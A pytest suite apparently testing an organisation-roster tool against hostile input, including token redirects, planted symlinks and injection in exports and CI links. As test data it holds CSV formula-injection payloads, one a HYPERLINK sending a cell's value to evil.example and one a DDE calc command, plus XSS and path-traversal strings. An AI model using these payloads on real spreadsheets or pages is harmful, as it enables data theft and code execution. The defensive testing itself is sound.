"""Hostile and unusual input against the newest features (hostile10): each test pins one bug
found by attacking them, with the exact finding, note or error line."""

from __future__ import annotations

import contextlib
import json
import threading
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar
from xml.etree import ElementTree

import pytest
from conftest import Run, run_cli

from orgspec.adopt.cells import csv_cell
from orgspec.ci import prcomment
from orgspec.ci.restapi import CommentError
from orgspec.engine.lint import load_org

SECRET = "ghp-SECRET-token"


class _Seen(BaseHTTPRequestHandler):
    """Answers `[]` (no comments) or redirects to `to` when set; records each request."""

    seen: ClassVar[list[tuple[str, str, str | None]]] = []
    to: ClassVar[str] = ""

    def log_message(self, *args: Any) -> None:
        pass

    def _any(self) -> None:
        self.seen.append((self.command, self.path, self.headers.get("Authorization")))
        if self.to:
            self.send_response(302)
            self.send_header("Location", self.to + self.path)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"[]")

    do_GET = do_POST = do_PATCH = _any


@contextlib.contextmanager
def _server(to: str = "") -> Iterator[tuple[str, list[tuple[str, str, str | None]]]]:
    handler = type("Handler", (_Seen,), {"seen": [], "to": to})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", handler.seen
    finally:
        server.shutdown()
        server.server_close()


def test_a_redirect_to_another_host_is_not_followed_with_the_token() -> None:
    with _server() as (other, stolen), _server(to=other + "/stolen") as (api, seen), \
            pytest.raises(CommentError) as caught:
        prcomment.sticky_comment("body", token=SECRET, repo="o/r", number=1, api_url=api)
    assert str(caught.value) == ("the GitHub API answered GET with a redirect (302) to "
                                 "'127.0.0.1': not followed, so the token goes nowhere "
                                 "else; set the API URL to where it leads")
    assert stolen == []
    assert [m for m, _, _ in seen] == ["GET"]


def test_the_token_to_this_machine_never_goes_through_a_proxy(
        monkeypatch: pytest.MonkeyPatch) -> None:
    with _server() as (proxy, through), _server() as (api, seen):
        monkeypatch.setenv("http_proxy", proxy)
        monkeypatch.setenv("HTTP_PROXY", proxy)
        monkeypatch.delenv("no_proxy", raising=False)
        monkeypatch.delenv("NO_PROXY", raising=False)
        monkeypatch.setattr(urllib.request, "_opener", None)  # urlopen's, made once a process
        assert prcomment.sticky_comment("body", token=SECRET, repo="o/r", number=1,
                                        api_url=api) == "created"
    assert through == []
    assert [m for m, _, _ in seen] == ["GET", "POST"]


# --- import roster -------------------------------------------------------------------------------

ROSTER = "Name,Department,Manager\nAda,Ops,\nGrace,Ops,Ada\nLinus,Dev,Ada\nKen,Dev,Linus\n"


def _import(tmp_path: Path, name: str, data: str | bytes, *args: str) -> Run:
    roster = tmp_path / name
    if isinstance(data, str):
        roster.write_text(data, "utf-8")
    else:
        roster.write_bytes(data)
    return run_cli("import", "roster", str(roster), "-o", str(tmp_path / "org"), "--lang", "en",
                   *args)


def test_a_link_planted_as_a_pending_file_is_not_written_through(tmp_path: Path) -> None:
    assert _import(tmp_path, "r.csv", ROSTER).code == 0
    org = tmp_path / "org"
    (org / "dev.yaml").write_text((org / "dev.yaml").read_text("utf-8") + "# mine\n", "utf-8")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", "utf-8")
    (org / "dev.yaml.new").symlink_to(victim)
    before = {p.name: p.read_bytes() for p in org.iterdir() if not p.is_symlink()}
    run = _import(tmp_path, "r.csv", ROSTER + "Linus2,Dev,Linus\n")
    assert (run.code, run.stderr) == (2, f"orgspec: error: refusing to write 'dev.yaml.new' in "
                                         f"{str(org)!r}: it is a symbolic link, which the "
                                         f"import would write through; delete the link\n")
    assert victim.read_text("utf-8") == "precious"
    assert {p.name: p.read_bytes() for p in org.iterdir() if not p.is_symlink()} == before


def test_a_roster_with_a_header_and_no_one_under_it_removes_nothing(tmp_path: Path) -> None:
    assert _import(tmp_path, "r.csv", ROSTER).code == 0
    before = sorted(p.name for p in (tmp_path / "org").iterdir())
    run = _import(tmp_path, "r.csv", "Name,Department,Manager\n,,\n")
    assert (run.code, run.stderr) == (2, f"orgspec: error: {tmp_path / 'r.csv'}: the roster has "
                                         "a header but no one under it: nothing is imported "
                                         "(an import of no one would remove every team it "
                                         "wrote)\n")
    assert sorted(p.name for p in (tmp_path / "org").iterdir()) == before


def test_a_hidden_sheet_is_not_taken_for_the_roster(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    book.active.title = "cover"
    hidden = book.create_sheet("left 2025")
    hidden.sheet_state = "hidden"
    hidden.append(["Name", "Department"])
    hidden.append(["Old Hand", "Archive"])
    staff = book.create_sheet("staff")
    for row in ROSTER.splitlines():
        staff.append(row.split(","))
    book.save(tmp_path / "r.xlsx")
    assert run_cli("import", "roster", str(tmp_path / "r.xlsx"), "-o",
                   str(tmp_path / "org")).code == 0
    assert sorted(p.name for p in (tmp_path / "org").glob("*.yaml")) == ["dev.yaml", "ops.yaml"]
    named = run_cli("import", "roster", str(tmp_path / "r.xlsx"), "-o", str(tmp_path / "old"),
                    "--sheet", "left 2025")
    assert named.code == 0
    assert sorted(p.name for p in (tmp_path / "old").glob("*.yaml")) == ["archive.yaml"]



def test_heads_reporting_to_each_other_are_said_when_no_team_is_placed(tmp_path: Path) -> None:
    run = _import(tmp_path, "r.csv", "Name,Department,Manager\nAda,Ops,Linus\nGrace,Ops,Ada\n"
                  "Linus,Dev,Ada\nKen,Dev,Linus\n")
    assert run.code == 0, run.stderr
    assert run.stderr.splitlines() == [
        "note: no parent-department column: 2 top-level teams; add one to the roster, or set "
        "`parent:` in a team's file (a re-import keeps it)",
        "note: left top-level, their head's manager not in one other team (or no head): Dev, "
        "Ops; set `parent:` in their files (a re-import keeps it)"]


def test_a_manager_who_is_no_one_in_the_roster_is_said(tmp_path: Path) -> None:
    run = _import(tmp_path, "r.csv", ROSTER.replace("Linus,Dev,Ada", "Linus,Dev,Adda"))
    assert run.code == 0, run.stderr
    assert "note: 1 manager named in the roster is no one in it (by name, employee ID or email): "\
           "Adda (r.csv:4); no lead or parent team is taken from them, and it is written as " \
           "`manager:` as it is, for `orgspec check` to report" in run.stderr.splitlines()


def test_a_manager_named_by_a_name_two_people_have_is_said(tmp_path: Path) -> None:
    """Two 陳志明 named as a manager (trial 17 #3): 郭俊傑's team has one of them, which is
    taken; 王大同's has neither, which is said once, with the ids it may be."""
    roster = ("姓名,部門,郵箱,主管\n林怡君,營運部,yijun@x.tw,\n陳志明,客服部,zhiming@x.tw,林怡君\n"
              "陳志明,技術部,chihming@x.tw,林怡君\n郭俊傑,客服部,jj@x.tw,陳志明\n"
              "王大同,行銷部,dt@x.tw,陳志明\n")
    run = _import(tmp_path, "r.csv", roster)
    assert run.code == 0, run.stderr
    said = [line for line in run.stderr.splitlines() if "several people" in line]
    assert said == ["note: 1 manager named in the roster is the name of several people, none "
                    "of them in the member's team: 陳志明 (r.csv:6: zhiming, chihming); who "
                    "reports to them is not taken from those rows: write an employee ID or email "
                    "in the manager column to say which"]
    run = _import(tmp_path, "r.csv", roster.replace(",陳志明\n", ",zhiming@x.tw\n"))
    assert "several people" not in run.stderr


# --- export and back -----------------------------------------------------------------------------

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3",
         "@SUM(A1)", "＝SUM(1)", "－3", "＠x", "'=already quoted", "''", "'Bob", "=", "-"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imported_back_gives_every_name_unchanged(tmp_path: Path, fmt: str) -> None:
    if fmt == "xlsx":
        pytest.importorskip("openpyxl")
    people = "".join(f"- kind: Person\n  id: p{i}\n  name: {json.dumps(n)}\n"
                     f"  title: {json.dumps(n)}\n" for i, n in enumerate(NAMES))
    members = ", ".join(f"p{i}" for i in range(len(NAMES)))
    (tmp_path / "org").mkdir()
    (tmp_path / "org" / "org.yaml").write_text(
        f"- kind: Team\n  id: ops\n  name: Ops\n  lead: p0\n  members: [{members}]\n"
        + people, "utf-8")
    out = "ex" if fmt == "csv" else "ex.xlsx"
    assert run_cli("export", "org", "--format", fmt, "-o", out, "--isolated",
                   cwd=tmp_path).code == 0
    roster = "ex/people.csv" if fmt == "csv" else "ex.xlsx"
    assert run_cli("import", "roster", roster, "-o", "back", cwd=tmp_path).code == 0
    back = load_org([str(tmp_path / "back")]).org
    assert {pid: (p.name, p.title) for pid, p in back.people.items()} == \
        {f"p{i}": (n, n) for i, n in enumerate(NAMES)}


def test_every_formula_start_gets_a_quote_in_csv() -> None:
    assert [csv_cell(n) for n in NAMES] == [
        "'" + n for n in NAMES[:8]] + ["'''", "'Bob", "=", "-"]


# --- site ----------------------------------------------------------------------------------------

def test_a_title_with_control_and_bidi_characters_leaves_the_feed_well_formed(
        tmp_path: Path) -> None:
    (tmp_path / "org").mkdir()
    (tmp_path / "org" / "org.yaml").write_text(
        "- kind: Team\n  id: ops\n  name: Ops\n", "utf-8")
    title = "</title><x>\u202eevil\x1b[31m"
    run = run_cli("site", "org", "-o", "site", "--title", title, cwd=tmp_path)
    assert run.code == 0, run.stderr
    feed = ElementTree.parse(tmp_path / "site" / "changes" / "feed.xml").getroot()
    assert feed.findtext("{http://www.w3.org/2005/Atom}title") == \
        "</title><x>[U+202E]evil[U+001B][31m"


# --- report links in CI --------------------------------------------------------------------------

@pytest.mark.parametrize(("url", "sha"), [
    ("https://gitlab.example.cn/a/b", "../../../other/-/raw/main"),  # leads to another file
    ("https://gitlab.example.cn/a/b", 'f00"><script>'),
    ("https://gitlab.example.cn/a/b/../../c", "f00"),  # another project
    ("https://gitlab.example.cn/a/b\n[x](javascript:alert(1))", "f00"),
    ('https://gitlab.example.cn/a/b"onmouseover="alert(1)', "f00"),
    ("javascript:alert(1)//https://x", "f00"),
])
def test_a_hostile_ci_project_url_or_commit_gives_relative_links(
        url: str, sha: str, tmp_path: Path) -> None:
    from orgspec.run import CiEnv, view_links

    links = view_links(CiEnv.from_environ({"CI_PROJECT_URL": url, "CI_COMMIT_SHA": sha,
                                           "CI_PROJECT_DIR": str(tmp_path)}))
    assert (links.repo_url, links.sha) == (None, None)
    sound = view_links(CiEnv.from_environ({"CI_PROJECT_URL": "https://gitlab.example.cn/a/b",
                                           "CI_COMMIT_SHA": "f00",
                                           "CI_PROJECT_DIR": str(tmp_path)}))
    assert (sound.repo_url, sound.sha) == ("https://gitlab.example.cn/a/b", "f00")


# --- init ----------------------------------------------------------------------------------------

def test_an_init_that_fails_half_way_leaves_no_folder_it_made(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from orgspec import output
    from orgspec.adopt.init import InitError, init_repo

    real, calls = output.write_text, []

    def full_disk(path: str, text: str, encoding: str = "utf-8") -> None:
        calls.append(path)
        if len(calls) == 3:
            raise OSError(28, "No space left on device", path)
        real(path, text, encoding)

    monkeypatch.setattr(output, "write_text", full_disk)
    (tmp_path / "repo").mkdir()
    with pytest.raises(InitError):
        init_repo(str(tmp_path / "repo"), "en", "github")
    assert len(calls) == 3
    assert list((tmp_path / "repo").iterdir()) == []


# --- the IME colon hint --------------------------------------------------------------------------

def test_an_ime_colon_in_a_teams_duty_is_not_told_the_teams_lead(write_org) -> None:
    org = write_org({"ops.yaml": "- kind: Team\n  id: ops\n  name: 运营部\n  responsibilities:\n"
                                 "    - id: live-schedule\n      name: 直播排期\n"
                                 "      负责人：董洁\n"})
    run = run_cli("check", str(org), "--format", "json", "--lang", "en")
    [found] = [f for f in run.json()["findings"] if f["code"] == "IN001"]
    assert (Path(found["file"]).name, found["line"], found["column"]) == ("ops.yaml", 7, 10)
    # 负责人 on a duty is its accountable party (t10fix, trial 10): never the team's `lead`
    assert found["hint"] == "write `accountable: 董洁` (the field's English name, an ASCII colon " \
        "and a space)"


# --- a list with an item cut ---------------------------------------------------------------------

def test_a_finding_after_an_invalid_list_item_is_where_its_item_is_written(write_org) -> None:
    """An empty member or a charter item that is no mapping is cut from the entity (SC003);
    the findings on the items after it were placed one item early (on the cut one)."""
    org = write_org({"e.yaml": "- kind: Person\n  id: p1\n  name: P\n- kind: Team\n  id: ops\n"
                               "  name: Ops\n  lead: p1\n  members:\n    - ''\n    - zzz\n"
                               "    - p1\n  responsibilities:\n    - [x]\n    - ref: nope\n"
                               "      role: accountable\n"})
    run = run_cli("check", str(org), "--format", "json", "--lang", "en")
    assert sorted((f["code"], f["line"], f["column"]) for f in run.json()["findings"]
                  if f["code"] in ("RF001", "SC003")) == [
        ("RF001", 10, 7), ("RF001", 14, 7), ("SC003", 9, 7), ("SC003", 13, 7)]


def test_a_header_in_full_width_letters_is_read(tmp_path: Path) -> None:
    run = _import(tmp_path, "r.csv", "Ｎａｍｅ,Ｔｅａｍ,Ｅ－ｍａｉｌ\nAda,Ops,ada@example.cn\n")
    assert run.code == 0, run.stderr
    assert {p.id: p.email for p in load_org([str(tmp_path / "org")]).org.people.values()} == \
        {"ada": "ada@example.cn"}


@pytest.mark.parametrize(("args", "param", "command"), [
    (("init", ""), "'DIRECTORY'", "init"),  # wrote the starter files into the working folder
    (("import", "roster", "r.csv", "-o", ""), "'--output-dir'", "import"),  # crashed
])
def test_an_empty_path_is_one_error_line_and_writes_nowhere(
        tmp_path: Path, args: tuple[str, ...], param: str, command: str) -> None:
    (tmp_path / "r.csv").write_text(ROSTER, "utf-8")
    run = run_cli(*args, cwd=tmp_path)
    assert (run.code, run.stdout) == (2, "")
    assert run.stderr == (f"orgspec: error: invalid value for {param}: an empty text names no "
                          f"file or folder (see `orgspec {command} --help`)\n")
    assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]


# --- the shared-name resolver ------------------------------------------------------------------

@pytest.mark.parametrize(("written", "ids"), [
    ("張伟", "`zhangwei` (Ops), `zhangwei-tw` (Ops)"),  # 张伟 and 張偉: either script
    ("ＡＮＮ ＬＥＥ", "`a1` (Ops), `a2` (Ops)"),  # Ann Lee and ann  lee: width, case, spacing
])
def test_a_name_two_people_share_once_folded_is_said_as_both(
        write_org, written: str, ids: str) -> None:
    org = write_org({"p.yaml": "- {kind: Person, id: zhangwei, name: 张伟}\n"
                               "- {kind: Person, id: zhangwei-tw, name: 張偉}\n"
                               "- {kind: Person, id: a1, name: Ann Lee}\n"
                               "- {kind: Person, id: a2, name: ann  lee}\n"
                               "- {kind: Team, id: ops, name: Ops, lead: zhangwei,\n"
                               "   members: [zhangwei, zhangwei-tw, a1, a2]}\n"
                               f"- {{kind: Team, id: dev, name: Dev, members: [{written}]}}\n"})
    run = run_cli("check", str(org), "--format", "json", "--lang", "en")
    [found] = [f for f in run.json()["findings"] if f["code"] == "RF001"]
    assert found["hint"] == (f"{written} is the name of more than one person: {ids}; write "
                             "the id of the one meant")
